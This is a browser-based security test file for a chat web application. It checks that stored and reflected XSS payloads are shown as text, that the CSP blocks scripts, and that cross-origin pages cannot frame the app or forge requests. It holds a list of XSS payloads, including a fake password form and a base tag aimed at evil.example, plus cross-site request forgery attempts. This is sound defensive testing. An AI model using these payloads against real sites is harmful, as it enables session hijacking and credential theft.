/*
 * Copyright (C) ngx_chat contributors
 */

/*
 * Texts and names that contain scripts, and pages of other sites that imitate
 * this one, in a real browser.
 */

import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import { createServer } from 'node:http';
import { after, test } from 'node:test';
import { alice, bob, carol, eventually, faults, login, message, open,
         request, sql, talk, talkTo, texts, url, visit, words, write }
  from './helpers.mjs';

const EVIL = [
  '<script>ran("script")</script>',
  '<img src=x onerror="ran(1)">',
  '<svg onload="ran(2)"><animate onbegin="ran(3)" attributeName="x"/></svg>',
  '<a href="javascript:ran(4)">click</a>',
  'javascript:ran(5)',
  '<iframe srcdoc="<script>parent.ran(6)</script>"></iframe>',
  '"><script>ran(7)</script>',
  "' onmouseover='ran(8)' autofocus onfocus='ran(9)",
  '&lt;script&gt;ran(10)&lt;/script&gt; &amp;amp; &#60;b&#62;',
  '</span></li></ol><style>*{display:none}</style><h1>hello</h1>',
  '</template><script>ran(11)</script><template>',
  '<base href="https://evil.example/"><meta http-equiv="refresh" content="0">',
  '<form action="https://evil.example/"><input name="password"></form>',
  '<math><mtext></p><style><img src=x onerror=ran(12)></style></mtext></math>',
  '${ran(13)} {{ran(14)}} <%= ran(15) %> <!--# echo var="http_cookie" -->',
  '\u202Etxt.exe\u202C \u2028 \u2029 \u0000'.replace('\0', '\uFFFD'),
];


/* Records an attempt in window.seen of the page. */
function watch() {
  window.seen = [];
  window.ran = (what) => window.seen.push(`ran ${what}`);
  document.addEventListener('securitypolicyviolation', (event) => {
    window.seen.push(`violation ${event.violatedDirective}`);
  });
}


/* Opens a page with the observer; dialogs are faults. */
async function watched(opened) {
  const page = await opened;

  page.on('dialog', async (dialog) => {
    faults.push(`dialog ${dialog.message()}`);
    await dialog.dismiss();
  });

  return page;
}


async function nothingRan(page, what) {
  // time for elements to load or fail
  await page.waitForTimeout(300);
  assert.deepEqual(await page.evaluate(() => window.seen), [], what);
  assert.equal(await page.locator(
    ':is(#messages, #people, #conversation, #nobody)'
    + ' :is(script, img, iframe, base, meta, style, math, form:not(#composer),'
    + ' a[href^="javascript"], [onerror], [onload], [onfocus])').count(),
               0, `${what}: creates no element`);
}


/*
 * Another port is another origin, but the same site: requests from there have
 * the cookie, so the server must reject them.  This is a separate server, since
 * a browser does not let pages without an origin access this host.
 */
let html = '';

const server = createServer((request, response) => {
  response.setHeader('Content-Type', 'text/html');
  response.end(html);
});

await new Promise((resolve) => { server.listen(0, '127.0.0.1', resolve); });
after(() => server.close());

const neighbour = `http://127.0.0.1:${server.address().port}`;


/* Opens a page of another origin in a browser in which alice is logged in. */
async function foreignPage(origin, text = '<!DOCTYPE html><p>Hello</p>') {
  const home = await open(alice);
  const context = home.context();

  html = text;

  await context.route('http://evil.example/**', (route) => route.fulfill({
    contentType: 'text/html',
    body: text,
  }));

  const page = await context.newPage();

  await page.goto(`${origin}/`);

  return page;
}


/* Returns the number of rejected cross-origin sockets; 0 without the log. */
function logged() {
  if (!process.env.CHAT_DEV) {
    return 0;
  }

  return readFileSync(`${process.env.CHAT_RUN}/error.log`, 'utf8')
    .split('chat subscriber from a foreign origin').length;
}


/* Discards requests to other hosts, which are part of a test. */
function forgive() {
  faults.splice(0, Infinity,
                ...faults.filter((fault) => !fault.startsWith('request to ')));
}


test('the observer detects scripts, and the policy blocks them',
     async () => {
  const page = await watched(open(alice, '/', { init: watch }));

  // like a client that does not escape
  await page.evaluate((markup) => {
    window.part('#nobody').hidden = false;
    window.part('#nobody').innerHTML = markup;
  }, EVIL.join(''));

  await eventually(() => page.evaluate(() => window.seen.length > 0), 'seen');

  const seen = await page.evaluate(() => window.seen);

  assert.ok(seen.some((what) => what.startsWith('violation script-src')),
            'scripts are blocked');
  assert.deepEqual(seen.filter((what) => what.startsWith('ran')), []);

  // faults are expected in this page
  assert.ok(faults.some((fault) => fault.includes('Content Security Policy')));
  faults.splice(0);
});


test('the same markup runs without the policy', async () => {
  const page = await watched(open(alice, '/', { init: watch,
                                                bypassCSP: true }));

  await page.evaluate((markup) => {
    window.part('#nobody').hidden = false;
    window.part('#nobody').innerHTML = markup;
  }, '<img src=/nothing onerror="ran(1)">');

  await eventually(() => page.evaluate(() => window.seen.includes('ran 1')),
                   'ran');
});


test('received messages are shown as text', async () => {
  const page = await watched(talk(bob, carol, { init: watch }));
  const sender = await watched(talk(carol, bob, { init: watch }));
  const sent = EVIL.map((evil) => words(evil));

  for (const text of sent) {
    await write(sender, text);
    await message(sender, text, 'sent');
    await message(page, text);
  }

  assert.deepEqual((await texts(page)).slice(-sent.length), sent);
  assert.deepEqual((await texts(sender)).slice(-sent.length), sent);

  await nothingRan(page, 'as they come');
  await nothingRan(sender, 'as they are sent');
});


test('old messages and previews are shown as text', async () => {
  const sender = await talk(carol, bob);
  const list = await watched(open(bob, '/', { init: watch }));
  const preview = list.locator('.person', { hasText: carol.name })
    .locator('.preview');
  let text;

  for (const evil of EVIL) {
    text = words(evil);

    await request(sender, 'POST', '/api/v1/message/',
                  { recipient: bob.name, body: text });
    await eventually(async () => await preview.textContent() === text,
                     `preview of ${evil}`);
  }

  await nothingRan(list, 'previews, as they come');
  await list.reload();
  await eventually(async () => await preview.textContent() === text,
                   'preview of the last message');
  await nothingRan(list, 'previews');

  const page = await watched(talk(bob, carol, { init: watch }));
  const shown = await texts(page);

  for (const evil of EVIL.slice(-10)) {
    assert.ok(shown.some((line) => line.startsWith(evil)), evil);
  }

  await nothingRan(page, 'history');
});


test('names in the address and in the search are shown as text', async () => {
  const page = await watched(talkTo(alice, EVIL[0], { init: watch }));

  for (const evil of EVIL) {
    await page.evaluate((name) => {
      location.hash = `#/${encodeURIComponent(name)}`;
    }, evil);
    await eventually(async () => await page.textContent('#with') === evil,
                     evil);
    assert.ok((await page.textContent('#silence-text')).includes(evil));
    assert.ok((await page.title()).length > 0);

    await page.fill('#search', evil);
    await eventually(async () => (await page.textContent('#nobody'))
      .includes(evil.trim()), `search for ${evil}`);
  }

  await write(page, words('to nobody'));
  await page.getByText('Not sent.').first().waitFor();
  await nothingRan(page, 'names');
});


/* The server rejects such names; rows inserted by hand may have them. */
test('a name from the database is shown as text', {
  skip: !process.env.CHAT_DEV && 'no CHAT_DEV',
}, async () => {
  const names = EVIL.map((evil) => evil.slice(0, 150));
  const quoted = names
    .map((name) => `x'${Buffer.from(name).toString('hex')}'`);

  sql(`INSERT INTO chat_user (username, name_unchecked) VALUES
       ${quoted.map((name) => `(CONVERT(${name} USING utf8mb4), TRUE)`)
               .join(',')}`);

  try {
    const page = await watched(open(alice, '/', { init: watch }));

    for (const name of names) {
      await eventually(async () => (await page.locator('.person .name')
        .allTextContents()).includes(name), name);
    }

    await nothingRan(page, 'in the list');

    for (const name of names.slice(0, 4)) {
      await page.locator('.person').filter({ hasText: name }).first().click();
      await eventually(async () => await page.textContent('#with') === name,
                       name);
      await nothingRan(page, name);
    }

  } finally {
    sql(`DELETE FROM chat_user WHERE username IN
         (${quoted.map((name) => `CONVERT(${name} USING utf8mb4)`).join(',')})`);
  }
});


test('an API response is not shown as a page', async () => {
  const page = await watched(talk(alice, bob, { init: watch }));
  const text = words('<script>ran("page")</script><img src=x onerror=ran(1)>');

  await write(page, text);
  await message(page, text, 'sent');

  const id = await page.evaluate(async () => {
    const response = await fetch('/api/v1/message/');

    return (await response.json()).results[0].id;
  });

  for (const path of [`message/${id}/`, 'message/', 'conversation/',
                      'message/?target=%3Cscript%3Eran(2)%3C/script%3E',
                      '%3Cscript%3Eran(3)%3C/script%3E'])
  {
    const response = await page.goto(`${url}/api/v1/${path}`);

    assert.match(response.headers()['content-type'], /^application\/json/);
    assert.equal(response.headers()['x-content-type-options'], 'nosniff');
    assert.deepEqual(await page.evaluate(() => window.seen), [], path);
    assert.equal(await page.locator('script, img').count(), 0, path);
  }
});


test('the login page does not repeat what is in its address', async () => {
  const page = await watched(visit('/login/', { init: watch }));

  for (const evil of EVIL) {
    await page.goto(`${url}/login/?next=${encodeURIComponent(evil)}`
                    + `&x=${encodeURIComponent(evil)}`);
    await login(page, { name: evil, password: evil });
    await page.waitForSelector('#error:not(:empty)');
    assert.deepEqual(await page.evaluate(() => window.seen), [], evil);
  }
});


test('scripts cannot read the cookie of the session', async () => {
  const page = await open(alice);

  assert.equal(await page.evaluate(() => document.cookie), '');
  assert.ok((await page.context().cookies())
    .some(({ name, httpOnly, sameSite }) => /sessionid$/.test(name)
          && httpOnly && sameSite === 'Lax'));
  assert.equal(await page.evaluate(() => localStorage.length
                                         + sessionStorage.length), 0,
               'script-accessible storage is empty');
});


test('other pages cannot show this one in a frame', async () => {
  for (const path of ['/', '/login/', '/api/v1/message/']) {
    const page = await foreignPage(neighbour, `<!DOCTYPE html>
      <iframe src="${url}${path}" width="800" height="600"></iframe>`);

    await page.waitForTimeout(500);

    const [, frame] = page.frames();
    const inside = frame ? await frame.evaluate(
      () => document.body?.textContent ?? '').catch(() => '') : '';

    assert.doesNotMatch(inside, /Chat|Log in|results|Name|alice/, path);
    assert.ok(faults.some((fault) => /frame|X-Frame|Content Security/i
      .test(fault)) || !frame || frame.url().startsWith('chrome-error:'),
              `${path} is blocked`);
    await page.context().close();
    faults.splice(0);
  }
});


test('a page of the same site cannot send, read, listen or log out',
     async () => {
  const page = await foreignPage(neighbour);
  const text = words('forged');
  const answers = [];
  const before = logged();

  page.on('response', (response) => {
    const { pathname } = new URL(response.url());

    answers.push(`${response.request().method()} ${pathname} `
                 + response.status());
  });

  const results = await page.evaluate(async ([url, recipient, body]) => {
    const attempt = async (code) => {
      try {
        return await code();

      } catch (error) {
        return error.name;
      }
    };

    const socket = () => new Promise((resolve) => {
      const ws = new WebSocket(`${url.replace('http', 'ws')}/ws`);

      ws.onopen = () => resolve('open');
      ws.onerror = () => resolve('refused');
    });

    const events = () => new Promise((resolve) => {
      const source = new EventSource(`${url}/ws`, { withCredentials: true });

      source.onopen = () => resolve('open');
      source.onerror = () => resolve('refused');
    });

    const form = new URLSearchParams({ recipient, body });
    const simple = { method: 'POST', mode: 'no-cors', credentials: 'include' };

    return {
      form: await attempt(async () => (await fetch(
        `${url}/api/v1/message/`, { ...simple, body: form })).type),
      plain: await attempt(async () => (await fetch(`${url}/api/v1/message/`, {
        ...simple,
        headers: { 'Content-Type': 'text/plain' },
        body: JSON.stringify({ recipient, body }),
      })).type),
      json: await attempt(async () => (await fetch(`${url}/api/v1/message/`, {
        method: 'POST',
        credentials: 'include',
        headers: { 'Content-Type': 'application/json' },
        body: JSON.stringify({ recipient, body }),
      })).status),
      read: await attempt(async () => (await fetch(
        `${url}/api/v1/message/`, { credentials: 'include' })).text()),
      logout: await attempt(async () => (await fetch(
        `${url}/logout/`, { mode: 'no-cors', credentials: 'include' })).type),
      socket: await socket(),
      events: await events(),
    };
  }, [url, bob.name, text]);

  assert.deepEqual(answers, [
    'POST /api/v1/message/ 403',
    'POST /api/v1/message/ 403',
    'GET /logout/ 403',
  ], 'the server was asked, and refused');

  // no browser event shows the result of handshakes
  assert.ok(!logged() || logged() - before >= 2,
            'the sockets reached the server');

  // nothing is readable in an "opaque" response
  for (const [what, result] of Object.entries(results)) {
    assert.match(String(result), /^(?:opaque|TypeError|refused)$/, what);
  }

  // and by a form that navigates to the server
  await page.setContent(`<form method="post" action="${url}/api/v1/message/">
    <input name="recipient" value="${bob.name}">
    <input name="body" value="${text}"><button>Win</button></form>`);

  const [response] = await Promise.all([
    page.waitForResponse('**/api/v1/message/'),
    page.click('button'),
  ]);

  assert.equal(response.status(), 403, 'a form');
  assert.ok((await response.request().allHeaders()).cookie
    ?.includes('sessionid='), 'though the cookie was there');

  forgive();

  // alice is still logged in and has sent nothing
  const there = await talk(alice, bob);

  assert.deepEqual((await texts(there)).filter((line) => line === text), []);
});


test('the same requests succeed from a page of the site',
     async () => {
  const page = await open(alice);
  const text = words('own');

  const results = await page.evaluate(async ([recipient, body]) => ({
    form: (await fetch('/api/v1/message/', {
      method: 'POST',
      body: new URLSearchParams({ recipient, body }),
    })).status,
    socket: await new Promise((resolve) => {
      const ws = new WebSocket('/ws');

      ws.onopen = () => resolve('open');
      ws.onerror = () => resolve('refused');
    }),
  }), [bob.name, text]);

  assert.deepEqual(results, { form: 201, socket: 'open' });
});


test('another site gets no responses, with or without a cookie', async () => {
  const origin = 'http://evil.example';
  const page = await foreignPage(origin);
  const text = words('forged');

  await page.setContent(`<form method="post" action="${url}/api/v1/message/">
    <input name="recipient" value="${bob.name}">
    <input name="body" value="${text}"><button>Win</button></form>`);

  const [response] = await Promise.all([
    page.waitForResponse('**/api/v1/message/'),
    page.click('button'),
  ]);

  assert.equal(response.status(), 403);
  assert.ok(!(await response.request().allHeaders()).cookie,
            'SameSite keeps the cookie at home');
  forgive();
});


test('a link from another site opens the page but changes nothing',
     async () => {
  const page = await foreignPage('http://evil.example', `<!DOCTYPE html>
    <a id="out" href="${url}/logout/">Log out</a>
    <a id="in" href="${url}/#/${bob.name}">Chat</a>`);

  await page.click('#out');
  await page.waitForLoadState();
  await page.goto('http://evil.example/');
  await page.click('#in');
  await page.waitForSelector('#conversation');
  assert.equal(await page.textContent('#with'), bob.name);
  forgive();
});


test('an opener cannot access the page', async () => {
  const page = await foreignPage(neighbour);
  const reach = await page.evaluate(async (url) => {
    const other = window.open(url);

    await new Promise((resolve) => { setTimeout(resolve, 1500); });

    try {
      return other.document.title;

    } catch (error) {
      return error.name;
    }
  }, url);

  assert.equal(reach, 'SecurityError');
  forgive();
});
